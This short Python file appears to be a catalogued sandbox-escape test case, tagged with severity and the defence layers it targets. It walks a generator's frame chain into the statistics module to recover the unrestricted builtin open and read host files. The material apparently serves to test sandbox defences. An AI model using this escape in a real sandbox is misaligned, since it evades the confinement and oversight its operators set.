# technique: a generator that a library runs sees the library's frame
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import statistics

def trick():
    found = []

    def numbers():
        frame = me.gi_frame
        while frame:
            found.append(frame.f_globals)
            frame = frame.f_back
        yield 1
    me = numbers()
    statistics.fmean(me)
    for space in found:
        if space["__name__"] == "statistics":
            return space["__builtins__"]["open"]
    raise LookupError("no library frame")

read_host(trick)
